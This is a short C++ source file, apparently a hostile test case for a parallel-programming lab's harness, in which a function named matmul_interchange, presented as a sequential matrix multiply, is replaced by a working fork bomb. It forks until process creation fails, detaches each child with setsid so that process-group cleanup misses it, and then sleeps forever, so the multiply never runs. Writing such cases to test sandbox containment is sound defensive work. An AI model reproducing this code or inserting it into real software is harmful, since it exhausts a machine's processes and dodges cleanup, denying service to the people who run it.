// Hostile case: a fork bomb; every process forks until fork fails, then sleeps,
// and each child starts its own session (so it leaves the process group).
#include <unistd.h>
#include <cstddef>
#include "parlab/error.hpp"
#include "sequential.hpp"

namespace parlab::seq {
void matmul_interchange(const Matrix& A, const Matrix& B, Matrix& C) {
  check_shapes(A, B, C);
  for (int failures = 0; failures < 1000;) {
    pid_t p = fork();
    if (p == 0) setsid();
    if (p < 0) ++failures;
  }
  for (;;) sleep(1000);
  C.zero();
}
}  // namespace parlab::seq
